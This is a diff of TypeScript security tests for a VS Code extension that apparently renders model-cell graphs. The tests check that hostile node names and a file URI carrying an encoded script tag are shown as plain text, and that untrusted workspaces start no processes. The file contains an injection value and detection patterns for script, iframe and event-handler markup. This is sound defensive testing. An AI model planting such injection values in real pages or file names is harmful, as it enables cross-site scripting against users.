-    assert.doesNotMatch(svg, /<script|<img|<foreignObject|<iframe/i, 'markup in names is escaped (&lt;…)');
-    const parsed = await page.evaluate((s) => {
-      const d = new DOMParser().parseFromString(s, 'image/svg+xml');
-      return {
-        error: d.querySelector('parsererror')?.textContent ?? null,
-        texts: Array.from(d.querySelectorAll('text')).map((e) => e.textContent ?? ''),
-        scripts: d.querySelectorAll('script, img, foreignObject, iframe').length,
-        handlers: Array.from(d.querySelectorAll('*')).flatMap((e) => Array.from(e.attributes).filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
-      };
-    }, svg);
-    assert.equal(parsed.error, null);
-    assert.equal(parsed.scripts, 0);
-    assert.deepEqual(parsed.handlers, [], 'no event-handler attribute in the exported SVG');
-    for (const p of PAYLOADS) assert.ok(parsed.texts.includes(p), `exported label ${JSON.stringify(p)}`);
-    assert.deepEqual(dialogs, [], 'no alert/confirm dialog was opened');
-    assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
-  } finally {
-    await page.close();
-  }
-});
+    try {
+      const msg = renderMessage(hostileText(), { uri: 'file:///ws/%3Cscript%3E.json' });
+      await post(page, msg);
+      const dom = await page.evaluate(() => {
+        const root = document.getElementById('cell-lens-graph')!;
+        return {
+          names: Array.from(root.querySelectorAll('.cl-name')).map((e) => e.textContent ?? ''),
+          ops: Array.from(root.querySelectorAll('.cl-op')).map((e) => e.textContent ?? ''),
+          injected: root.querySelectorAll('script, img, iframe, object, embed, foreignObject, a[href]').length,
+          handlers: Array.from(root.querySelectorAll('*')).flatMap((e) =>
+            Array.from(e.attributes)
+              .filter((a) => /^on/i.test(a.name))
+              .map((a) => a.name),
+          ),
+          pwned: (window as unknown as { __pwned?: unknown }).__pwned,
+        };
+      });
+      for (const p of PAYLOADS) assert.ok(dom.names.includes(p), `node label ${JSON.stringify(p)} shown verbatim`);
+      assert.ok(
+        dom.ops.some((o) => o.includes(HOSTILE_OP)),
+        'the unknown op is shown as text',
+      );
+      assert.equal(dom.injected, 0, 'no element was created from recipe text');
+      assert.deepEqual(dom.handlers, []);
+      assert.equal(dom.pwned, undefined);
+      // The tooltip (on focus) lists the hostile names and the marker message as text.
+      const target = msg.cells[0].model.nodes.find((n) => n.op === HOSTILE_OP)!;
+      await page.focus(`.cl-node[data-id="${target.id.replace(/["\\]/g, '\\$&')}"]`);
+      const tip = await page.evaluate(() => {
+        const t = document.querySelector('.cl-tooltip, [class*="tooltip"]') as HTMLElement | null;
+        return t ? { text: t.textContent ?? '', elements: t.querySelectorAll('script, img').length } : undefined;
+      });
+      assert.ok(tip, 'a tooltip is shown');
+      assert.ok(tip.text.includes(HOSTILE_OP));
+      assert.equal(tip.elements, 0);
+      // The SVG export is well-formed XML whose text nodes are the names; nothing executable in it.
+      await post(page, { type: 'exportRequest', format: 'svg' });
+      await page.waitForFunction(() =>
+        (window as unknown as { __posted: { type: string }[] }).__posted.some((m) => m.type === 'export'),
+      );
+      const svg = String((await posted(page)).find((m) => m.type === 'export')!.data);
+      assert.doesNotMatch(svg, /<script|<img|<foreignObject|<iframe/i, 'markup in names is escaped (&lt;…)');
+      const parsed = await page.evaluate((s) => {
+        const d = new DOMParser().parseFromString(s, 'image/svg+xml');
+        return {
+          error: d.querySelector('parsererror')?.textContent ?? null,
+          texts: Array.from(d.querySelectorAll('text')).map((e) => e.textContent ?? ''),
+          scripts: d.querySelectorAll('script, img, foreignObject, iframe').length,
+          handlers: Array.from(d.querySelectorAll('*')).flatMap((e) =>
+            Array.from(e.attributes)
+              .filter((a) => /^on/i.test(a.name))
+              .map((a) => a.name),
+          ),
+        };
+      }, svg);
+      assert.equal(parsed.error, null);
+      assert.equal(parsed.scripts, 0);
+      assert.deepEqual(parsed.handlers, [], 'no event-handler attribute in the exported SVG');
+      for (const p of PAYLOADS) assert.ok(parsed.texts.includes(p), `exported label ${JSON.stringify(p)}`);
+      assert.deepEqual(dialogs, [], 'no alert/confirm dialog was opened');
+      assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
+    } finally {
+      await page.close();
+    }
+  },
+);
 
 // ------------------------------------------------------------------ (d) no scorer in an untrusted workspace
 
-test('(d) untrusted workspace: no scoring command starts a process (child_process spied)', { timeout: 60_000 }, async () => {
-  // The spy must see ScoringClient's fork: prove it with a client whose start is intercepted.
-  // eslint-disable-next-line @typescript-eslint/no-require-imports
-  const cp = require('node:child_process') as typeof import('node:child_process');
-  const calls: string[] = [];
-  const saved = { fork: cp.fork, spawn: cp.spawn, execFile: cp.execFile, exec: cp.exec };
-  const spy = (name: keyof typeof saved) => ((...args: unknown[]) => { calls.push(`${name} ${String(args[0])}`); throw new Error('spawning is not allowed in this test'); }) as never;
-  for (const k of Object.keys(saved) as (keyof typeof saved)[]) (cp as Record<string, unknown>)[k] = spy(k);
-  const host = installFakeVscode();
-  const storage = mkdtempSync(join(tmpdir(), 'cell-lens-sec-trust-'));
-  const subscriptions: { dispose(): void }[] = [];
-  try {
-    const probe = new ScoringClient({ workerPath: join(REPO, 'dist/worker.js') });
-    await assert.rejects(probe.score({ h_new_0: { op: 'linear', input: ['x'] } }, { vocab: 5, embed: 2, hidden: 2, layers: 1, seqLen: 1, batch: 1, scores: ['params'], seed: 0, repeats: 1, backend: 'cpu' }), /Could not start/);
-    probe.dispose();
-    assert.equal(calls.length, 1, 'the spy intercepts the scoring client\'s fork');
-    calls.length = 0;
-
-    host.trusted = false;
+test(
+  '(d) untrusted workspace: no scoring command starts a process (child_process spied)',
+  { timeout: 60_000 },
+  async () => {
+    // The spy must see ScoringClient's fork: prove it with a client whose start is intercepted.
     // eslint-disable-next-line @typescript-eslint/no-require-imports
-    const ext = require('../../src/extension') as typeof import('../../src/extension');
-    const api = ext.activate({ subscriptions, extensionPath: REPO, extensionUri: Uri.file(REPO), globalStorageUri: { fsPath: storage } } as never);
-    const doc = new TextDocument(Uri.file('/ws/lstm.json'), 'json', 1, readFileSync(join(REPO, 'test/fixtures/workspace/lstm.json'), 'utf8'));
-    host.open(doc);
-    const run = (id: string, ...args: unknown[]) => {
-      const f = host.commands.get(id);
-      assert.ok(f, `command ${id} is registered`);
-      return f(...args);
-    };
-    const before = host.messages.length;
-    await run('cellLens.scoreCell', doc.uri, 0);
-    await run('cellLens.scoreFile', doc.uri);
-    await run('cellLens.scoreWorkspace');
-    await run('cellLens.restartScoring');
-    await run('cellLens.scoringActions');
-    assert.deepEqual(calls, [], 'no process was started');
-    assert.equal(api.scoring.processStatus, undefined, 'no scoring client was even created');
-    const warnings = host.messages.slice(before).filter((m: { level: string; text: string }) => m.level === 'warn' && /untrusted workspace/.test(m.text));
-    assert.ok(warnings.length >= 3, `each scoring request explains why it does nothing (${warnings.length} warnings)`);
-  } finally {
-    for (const s of subscriptions) { try { s.dispose(); } catch { /* disposing a fake */ } }
-    Object.assign(cp, saved);
-    rmSync(storage, { recursive: true, force: true });
-  }
-});
+    const cp = require('node:child_process') as typeof import('node:child_process');
+    const calls: string[] = [];
+    const saved = { fork: cp.fork, spawn: cp.spawn, execFile: cp.execFile, exec: cp.exec };
+    const spy = (name: keyof typeof saved) =>
+      ((...args: unknown[]) => {
+        calls.push(`${name} ${String(args[0])}`);
+        throw new Error('spawning is not allowed in this test');
+      }) as never;
+    for (const k of Object.keys(saved) as (keyof typeof saved)[]) (cp as Record<string, unknown>)[k] = spy(k);
+    const host = installFakeVscode();
+    const storage = mkdtempSync(join(tmpdir(), 'cell-lens-sec-trust-'));
+    const subscriptions: { dispose(): void }[] = [];
+    try {
+      const probe = new ScoringClient({ workerPath: join(REPO, 'dist/worker.js') });
+      await assert.rejects(
+        probe.score(
+          { h_new_0: { op: 'linear', input: ['x'] } },
+          {
+            vocab: 5,
+            embed: 2,
+            hidden: 2,
+            layers: 1,
+            seqLen: 1,
+            batch: 1,
+            scores: ['params'],
+            seed: 0,
+            repeats: 1,
+            backend: 'cpu',
+          },
+        ),
+        /Could not start/,
+      );
+      probe.dispose();
+      assert.equal(calls.length, 1, "the spy intercepts the scoring client's fork");
+      calls.length = 0;
+
+      host.trusted = false;
+      // eslint-disable-next-line @typescript-eslint/no-require-imports
+      const ext = require('../../src/extension') as typeof import('../../src/extension');
+      const api = ext.activate({
+        subscriptions,
+        extensionPath: REPO,
+        extensionUri: Uri.file(REPO),
+        globalStorageUri: { fsPath: storage },
+      } as never);
+      const doc = new TextDocument(
+        Uri.file('/ws/lstm.json'),
+        'json',
+        1,
+        readFileSync(join(REPO, 'test/fixtures/workspace/lstm.json'), 'utf8'),
+      );
+      host.open(doc);
+      const run = (id: string, ...args: unknown[]) => {
+        const f = host.commands.get(id);
+        assert.ok(f, `command ${id} is registered`);
+        return f(...args);
+      };
+      const before = host.messages.length;
+      await run('cellLens.scoreCell', doc.uri, 0);
+      await run('cellLens.scoreFile', doc.uri);
+      await run('cellLens.scoreWorkspace');
+      await run('cellLens.restartScoring');
+      await run('cellLens.scoringActions');
+      assert.deepEqual(calls, [], 'no process was started');
+      assert.equal(api.scoring.processStatus, undefined, 'no scoring client was even created');
+      const warnings = host.messages
+        .slice(before)
+        .filter((m: { level: string; text: string }) => m.level === 'warn' && /untrusted workspace/.test(m.text));
+      assert.ok(
+        warnings.length >= 3,
+        `each scoring request explains why it does nothing (${warnings.length} warnings)`,
+      );
+    } finally {
+      for (const s of subscriptions) {
+        try {
+          s.dispose();
+        } catch {
+          /* disposing a fake */
+        }
+      }
+      Object.assign(cp, saved);
+      rmSync(storage, { recursive: true, force: true });
+    }
+  },
+);
